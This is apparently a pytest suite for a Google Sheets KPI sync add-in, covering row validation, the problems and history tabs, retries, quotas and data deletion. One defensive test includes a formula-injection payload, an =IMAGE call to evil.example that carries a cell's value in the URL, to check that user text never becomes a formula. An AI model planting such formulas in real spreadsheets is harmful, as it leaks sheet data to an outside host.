"""One run of a sheet: what it reads, what it writes, what it leaves alone, and in how many calls."""

import datetime as dt

import pytest

from addin.demo import Cut, Fault, Formula, Hang, Reset, Status
from addin.sync import connections, planning
from addin.sync.google.batch import NUMBERS
from kpi_core.errors import KpiError
from kpi_core.text import Lang
from kpi_core.workspace import Store
from tests.addin.sync.conftest import LEADS, SPEND, TODAY, Kept

CPL = "Coût par lead (CPL)"


def test_a_sheet_is_written_in_four_calls_looked_at_in_three_and_left_in_one(kept):
    """
    Changed: 4 calls; the same data: 3; unchanged: 1.
    """
    states = [(o.state, o.calls) for o in (kept.run() for _ in range(4))]
    kept.spend.set(1, 3, 2000.0)
    states += [(o.state, o.calls) for o in (kept.run() for _ in range(3))]

    assert [
        ("written", 4),
        ("same", 3),
        ("unchanged", 1),
        ("unchanged", 1),
        ("written", 4),
        ("same", 3),
        ("unchanged", 1),
    ] == states


def test_the_sheet_says_what_the_core_says(kept):
    """
    The number of the dashboard is the one that a query gives.
    """
    kept.run()

    assert kept.asked("cpl") is not None
    assert kept.asked("cpl") == kept.figure(CPL)


def test_every_row_is_accounted_for(kept):
    """
    Valid, rejected with its reason on the problems tab, or blank: nothing is dropped.
    """
    kept.spend.insert("ROWS", 3)
    outcome = kept.run()
    problems = kept.sheet.tab("Problèmes KPI").values()

    assert {
        "read": 142,
        "valid": 140,
        "quarantined": 1,
        "blank": 1,
    }.items() <= outcome.details.items()
    assert ["Dépenses", 23, "Date", "n.c."] == problems[1][:4]
    assert "n’est pas une date" in problems[1][4]


def test_a_problem_that_is_mended_leaves_the_problems_tab(kept):
    """
    What was typed wrong and put right counts, and is listed no more.
    """
    kept.run()
    kept.spend.set(21, 0, dt.date(2025, 10, 20))
    kept.run()

    assert 21 == kept.rows()
    assert "Rien" in kept.sheet.tab("Problèmes KPI").values()[1][0]


def test_nothing_changes_in_what_people_typed(kept):
    """
    Their tabs are read and never written in, whatever is done to ours.
    """
    before = {t.title: t.values() for t in kept.sheet.tabs()}
    kept.run()
    kept.board().set(5, 1, 999)
    kept.run()
    after = {t.title: t.values() for t in kept.sheet.tabs()}

    assert before == {title: after[title] for title in before}
    assert 6 - 1 == len(after)


def test_a_changed_dashboard_is_put_right(kept):
    """
    What somebody typed over a figure is replaced by the figure.
    """
    kept.run()
    right = kept.board().values()
    kept.board().set(6, 1, 999)
    outcome = kept.run()

    assert "written" == outcome.state
    assert right[4:] == kept.board().values()[4:]


def test_rows_put_into_the_dashboard_leave_no_half_of_it(kept):
    """
    A row put in between pushes nothing into being said twice.
    """
    kept.run()
    right = kept.board().values()
    kept.board().insert("ROWS", 5, 2)
    kept.settled()

    assert right[3:] == kept.board().values()[3:]


def test_a_column_put_into_the_dashboard_leaves_no_second_one(kept):
    """
    A column put in between pushes one of ours out: it goes, and nobody's own.
    """
    kept.run()
    right = kept.board().values()
    kept.board().insert("COLUMNS", 2)
    kept.settled()

    assert right[4:] == kept.board().values()[4:]


def test_peoples_own_columns_beside_the_dashboard_stay(kept):
    """
    A column of remarks beside ours is theirs.
    """
    kept.run()
    kept.board().set(4, 23, "à discuter lundi")
    kept.spend.set(1, 3, 2000.0)
    kept.settled()

    assert "à discuter lundi" == kept.board().values()[4][23]


def test_renamed_and_moved_tabs_are_the_same_tabs(kept):
    """
    A tab is known by its own number: its name and place are its owner's.
    """
    kept.run()
    kept.board().rename("Chiffres de l’équipe")
    kept.spend.rename("Coûts")
    kept.spend.place(5)
    kept.spend.set(1, 3, 2000.0)
    outcome = kept.run()
    titles = kept.sheet.titles()

    assert "written" == outcome.state
    assert 5 == len(titles)
    assert "Tableau de bord KPI" not in titles
    assert 20 == kept.rows()


def test_moved_columns_and_sorted_rows_change_no_figure(kept):
    """
    Columns are found by their headers, rows by what they say.
    """
    kept.run()
    before = kept.asked("cpl")
    kept.spend.move("COLUMNS", 0, 4)
    kept.leads.sort(1, descending=True)
    outcome = kept.run()
    history = kept.store.cursor().execute("SELECT count(*) FROM spend_history").fetchall()[0][0]

    assert "same" == outcome.state
    assert before == kept.asked("cpl")
    assert 0 == history


def test_a_deleted_row_is_gone_and_stays_in_the_history(kept):
    """
    What was deleted counts no more, and can be told of.
    """
    kept.run()
    kept.spend.remove("ROWS", 1)
    kept.run()
    kept_rows = kept.store.cursor().execute("SELECT tombstone FROM spend_history").fetchall()

    assert 19 == kept.rows()
    assert [(True,)] == kept_rows


def test_a_header_that_is_gone_stops_everything(kept):
    """
    A column that cannot be found any more: the figures stay, and the reason is told.
    """
    kept.settled()
    before = kept.asked("cpl")
    kept.spend.set(0, 3, "Kosten?")
    kept.leads.set(1, 1, dt.date(2025, 10, 30))
    outcome = kept.run()

    assert "held" == outcome.state
    assert "Dépenses" in outcome.error.fr
    assert before == kept.asked("cpl") == kept.figure(CPL)
    assert "Dépenses" == kept.sheet.tab("Problèmes KPI").values()[1][0]
    kept.spend.set(0, 3, "Dépense (€)")
    assert "held" != kept.run().state


def test_a_tab_that_is_gone_is_held_until_somebody_says_so(kept):
    """
    Its rows stay, however often it is looked for, until its owner confirms.
    """
    kept.run()
    kept.spend.delete()
    held = [kept.run().state for _ in range(3)]
    rows = kept.rows()
    kept.confirm()
    outcome = kept.run()

    assert ["held"] * 3 == held
    assert 20 == rows
    assert "written" == outcome.state
    assert 0 == kept.rows()
    assert 20 == kept.rows("spend_history")


def test_four_rows_out_of_five_gone_need_a_second_look(kept):
    """
    A table that was emptied by a mistake of a moment is not believed at once.
    """
    kept.run()
    kept.leads.remove("ROWS", 1, 110)
    first, kept_rows = kept.run(), kept.rows("leads")
    second = kept.run()

    assert "held" == first.state
    assert "120" in first.error.fr
    assert 120 == kept_rows
    assert "written" == second.state
    assert 10 == kept.rows("leads")


def test_many_cells_of_another_type_stop_the_run(kept):
    """
    One row in five that cannot be read is a column that changed, not a slip.
    """
    kept.settled()
    for row in range(1, 8):
        kept.spend.set(row, 3, "voir facture")
    outcome = kept.run()
    rows = kept.rows()
    kept.confirm(tab="Dépenses")
    confirmed = kept.run()

    assert "held" == outcome.state
    assert 20 == rows
    assert "written" == confirmed.state
    assert 13 == kept.rows()


def test_a_tab_that_is_ignored_counts_no_more_and_taken_up_counts_again(kept, monkeypatch):
    """
    `kpi sync ignore`: its rows leave the figures at the next run; `--undo` brings them back.
    """
    monkeypatch.setattr(planning, "opened", kept.opened)
    kept.settled()
    before = kept.rows("leads")
    counted = []
    for ignore in (True, False):
        planning.mapped(kept.core, {"sheet": kept.number, "tab": "Leads", "ignore": ignore}, "t")
        kept.settled()
        counted.append(kept.rows("leads"))

    assert before > 0
    assert [0, before] == counted


def test_a_confirmation_is_of_what_was_held_then(kept):
    """
    A tab that was emptied on purpose, filled again and emptied by accident is held again.
    """
    kept.settled()
    rows = kept.spend.values()
    kept.spend.remove("ROWS", 1, len(rows) - 1)
    kept.run()
    kept.confirm()
    kept.settled()
    kept.spend.write("A2", rows[1:])
    kept.settled()
    full = kept.rows()
    kept.spend.remove("ROWS", 1, len(rows) - 1)

    assert full > 0
    assert "held" == kept.run().state
    assert full == kept.rows()


def test_a_tab_that_comes_later_waits_for_a_word(kept):
    """
    A copy or a draft must not count because it happens to look like data.
    """
    kept.run()
    kept.sheet.add_tab("Dépenses 2026", [SPEND[0], ["2025-10-10", "LinkedIn", "X", 5000]])
    kept.run()
    told = kept.sheet.tab("Problèmes KPI").values()
    before = kept.rows()
    kept.say("Dépenses 2026", hints='{"as_fact": "spend"}')
    kept.run(force=True)

    assert any("Dépenses 2026" == row[0] for row in told)
    assert (20, 21) == (before, kept.rows())


def test_a_copy_of_a_tab_does_not_count_twice(store):
    """
    Two tabs with mostly the same rows: the second is left out, and said so.
    """
    kept = Kept(store)
    kept.sheet.add_tab("Copie de Dépenses", SPEND)
    kept.run()
    told = [
        row for row in kept.sheet.tab("Problèmes KPI").values() if "Copie de Dépenses" == row[0]
    ]

    assert 20 == kept.rows()
    assert "répète" in told[0][4]


def test_a_list_of_anything_else_is_nobodys_concern(kept):
    """
    Notes and lists that are no data are neither read nor complained of.
    """
    kept.sheet.add_tab("Idées", [["Idée", "Qui"], ["un salon", "Karim"]])
    outcome = kept.run()
    problems = kept.sheet.tab("Problèmes KPI").values()

    assert 2 == outcome.details["tabs"]
    assert not [row for row in problems if "Idées" == row[0]]


def test_text_is_never_a_formula(kept):
    """
    What looks like a formula is a text wherever it is written; ours hold only our own cells.
    """
    evil = '=IMAGE("https://evil.example/?q="&A1)'
    kept.spend.set(21, 0, evil)
    kept.spend.set(21, 1, "=1+1")
    kept.run()
    problems = kept.sheet.tab("Problèmes KPI")
    formulas = {f for t in kept.sheet.tabs() for f in t.formulas().values()}

    assert evil == problems.values()[1][3]
    assert formulas
    assert all(f.startswith("=SPARKLINE(") for f in formulas)


def test_a_formula_of_the_user_counts_by_its_value(kept):
    """
    An amount that a formula computes is read as the number that it shows.
    """
    kept.spend.set(1, 3, Formula("=SUM(D3:D4)", 2500.0))
    kept.run()

    assert 2500 == max(
        float(a) for (a,) in kept.store.cursor().execute("SELECT amount FROM spend").fetchall()
    )


def test_the_sheets_language_is_that_of_its_dashboard(english):
    """
    An English sheet gets English tabs.
    """
    english.run()

    assert {"KPI dashboard", "KPI problems", "KPI history"} < set(english.sheet.titles())


def test_another_day_is_another_dashboard(kept):
    """
    What depends on the day is looked at again when the day changes, though nobody typed anything.
    """
    kept.settled()
    kept.core._today = TODAY + dt.timedelta(days=1)

    assert 3 <= kept.run().calls
    assert 1 == [kept.run().calls for _ in range(2)][-1]


def test_data_from_elsewhere_reach_the_dashboard(kept):
    """
    An import, or a setting, is seen at the next run of a sheet that nobody touched.
    """
    kept.settled()
    kept.store.change_settings({"focus": ["lead_volume"]}, "test")
    outcome = kept.run()

    assert "written" == outcome.state
    assert not [row for row in kept.board().values() if row and row[0] == CPL]


def test_the_history_grows_by_what_changed(kept):
    """
    One row a KPI and run that changed its value, below the others, which stay as they were.
    """
    kept.run()
    tab = kept.sheet.tab("Historique KPI")
    before = tab.values()
    kept.settled()
    same = tab.values()
    kept.spend.set(1, 3, 2000.0)
    kept.settled()
    after = tab.values()

    assert before == same
    assert before == after[: len(before)]
    assert len(after) > len(before)
    assert [*range(1, len(after))] == [row[0] for row in after[1:]]


def test_another_workspace_goes_on_below_what_stands_in_the_history(kept, tmp_path):
    """
    A sheet that another workspace kept before has rows of it: ours come after them, none is lost.
    """
    kept.settled()
    before = kept.sheet.tab("Historique KPI").values()
    with Store(tmp_path / "another", create=True) as store:
        again = Kept(store)
        again.google, again.sheet = kept.google, kept.sheet
        again.number = connections.connect(
            store, "google", kept.sheet.id, title="Suivi", lang=Lang.FR, credential=None, actor="t"
        ).id
        again.settled()
    after = kept.sheet.tab("Historique KPI").values()

    assert before == after[: len(before)]
    assert 2 * len(before) - 1 == len(after)
    assert [row[0] for row in after[1:]] == list(range(1, len(after)))


def test_a_number_typed_into_the_history_stops_nothing(kept):
    """
    Whatever somebody types there, later values are still added.
    """
    kept.settled()
    history = kept.sheet.tab("Historique KPI")
    history.set(len(history.values()), 0, 1e300)
    before = len(history.values())
    kept.spend.set(1, 3, 2000.0)
    kept.settled()

    assert before < len(kept.sheet.tab("Historique KPI").values())


def test_rows_that_another_source_has_too_are_pointed_at(kept):
    """
    The same spend to the cent, from an export and from the sheet: the problems tab says so.
    """
    kept.settled()
    with kept.store.transaction("t", "import", "ads.csv", {}) as cursor:
        cursor.execute(
            "INSERT INTO imports BY NAME SELECT * REPLACE (99 AS id, 'ads.csv' AS file, 'ads.export' AS system)"
            " FROM imports LIMIT 1"
        )
        cursor.execute(
            "INSERT INTO spend BY NAME SELECT * REPLACE ('ads.export' AS system, 99 AS import_id)"
            " FROM spend LIMIT 3"
        )
    kept.settled()

    told = [row[4] for row in kept.sheet.tab("Problèmes KPI").values()[1:]]
    assert any("3 lignes" in words and "ads.csv" in words for words in told), told


def test_a_lost_answer_is_looked_up_and_written_once(kept):
    """
    Applied and then failed, or failed and not applied: it stands there once.
    """
    for failure in (
        Reset(applied=True),
        Status(503, applied=True),
        Reset(),
        Hang(1.0, applied=True),
    ):
        kept.google.fail(Fault(failure, match="batchUpdate"))
        kept.spend.set(1, 3, kept.spend.values()[1][3] + 1)
        outcome = kept.run()
        numbers = [row[0] for row in kept.sheet.tab("Historique KPI").values()[1:]]

        assert "written" == outcome.state, failure
        assert kept.asked("cpl") == kept.figure(CPL)
        assert [*range(1, len(numbers) + 1)] == numbers


@pytest.mark.parametrize(
    "failure",
    [
        Status(429, retry_after=7),
        Status(500),
        Status(503),
        Status(502, html=True),
        Status(403, reason="userRateLimitExceeded"),
        Reset(),
        Cut(),
        Cut(chunked=True),
        Hang(1.0),
    ],
    ids=str,
)
def test_a_passing_trouble_is_waited_out(kept, failure):
    """
    Twice any trouble that passes: the run goes on after a wait, with nothing lost.
    """
    kept.google.fail(Fault(failure, match="batchGet", times=2))
    outcome = kept.run()

    assert "written" == outcome.state
    assert 2 == len(kept.clock.waits)
    if isinstance(failure, Status) and failure.retry_after:
        assert min(kept.clock.waits) >= 7


@pytest.mark.parametrize(
    ("failure", "word"),
    [
        (Status(401), "identifiants"),
        (Status(403), "partagez"),
        (Status(404), "partagée"),
        (Status(403, reason="accessNotConfigured"), "API"),
        (Status(413), "raccourcissez"),
    ],
    ids=str,
)
def test_a_refusal_is_told_at_once_with_its_cure(kept, failure, word):
    """
    What waiting does not cure is not waited for.
    """
    kept.google.fail(Fault(failure, match="spreadsheets", times=9))
    outcome = kept.run()

    assert "failed" == outcome.state
    assert word in outcome.error.fr
    assert [] == kept.clock.waits


def test_trouble_that_stays_ends(kept):
    """
    At most six tries and five minutes, then the next run: never for ever.
    """
    kept.google.fail(Fault(Status(503), times=10**6))
    outcome = kept.run()

    assert "failed" == outcome.state
    assert 6 >= outcome.calls
    assert kept.clock.now <= 300


def test_waits_are_never_the_same(kept):
    """
    Full jitter: many clients that failed together do not come back together.
    """
    kept.google.fail(Fault(Status(503), match="batchGet", times=5))
    kept.run()

    assert 5 == len(set(kept.clock.waits))


def test_no_more_than_sixty_calls_a_minute(kept):
    """
    A user's quota is kept by waiting, not by being refused.
    """
    book = kept.opened(None, connections.connection(kept.store.cursor(), kept.number))
    for _ in range(61):
        book.gate()

    assert 60 <= kept.clock.now <= 61


def test_what_somebody_changed_while_it_was_written_is_written_again(kept):
    """
    What stands there is read back in the same call: a run that finds something else is not done.
    """
    kept.run()
    written = []

    def meddle(call):
        if call.operation.endswith("batchUpdate") and not written:
            written.append(call)
            kept.google.fail(Fault(Cut(0.0), match="batchUpdate"))

    kept.google.before_call(meddle)
    kept.spend.set(1, 3, 2000.0)
    kept.settled()

    assert kept.asked("cpl") == kept.figure(CPL)


def test_a_second_run_meanwhile_is_refused(kept):
    """
    Two runs of one sheet never work at once.
    """
    met = []

    def second(call):
        if call.operation.endswith("batchGet") and not met:
            with pytest.raises(KpiError) as caught:
                kept.run()
            met.append(caught.value)

    kept.google.before_call(second)

    assert "written" == kept.run().state
    assert "en cours" in met[0].message.fr


def test_our_tabs_bear_our_own_numbers(kept):
    """
    So that a copy of the spreadsheet, or a renamed tab, is still known as ours.
    """
    kept.run()

    made = {number for key, number in NUMBERS.items() if key != "tables"}
    assert made < {t.id for t in kept.sheet.tabs()}
    assert "b2bkpi.run" in kept.sheet.metadata


def test_forgotten_people_do_not_come_back_with_the_sheet(kept):
    """
    Who asked to be forgotten stays so, though the team still has them in a tab.
    """
    from kpi_core.workspace import safekeeping

    kept.run()
    safekeeping.forget(kept.store, LEADS[1][0], "test")
    kept.leads.set(2, 1, dt.date(2025, 1, 25))
    kept.run()
    found = kept.store.cursor().execute("SELECT count(*) FROM leads WHERE email = ?", [LEADS[1][0]])

    assert [(0,)] == found.fetchall()


def test_a_tab_of_twenty_thousand_rows(store):
    """
    A whole tab is one table of one answer, however long.
    """
    kept = Kept(store)
    rows = [[day_of(n), "LinkedIn", f"C{n % 40}", n % 97 + 0.25] for n in range(20_000)]
    kept.spend.clear()
    kept.spend.write("A1", [SPEND[0][:4], *rows])
    outcome = kept.run()
    total = store.cursor().execute("SELECT count(*), sum(amount) FROM spend").fetchall()[0]

    assert ("written", 4) == (outcome.state, outcome.calls)
    assert 20_000 == total[0]
    assert sum(n % 97 + 0.25 for n in range(20_000)) == float(total[1])


def day_of(number):
    return dt.date(2025, 1, 1) + dt.timedelta(days=number % 300)
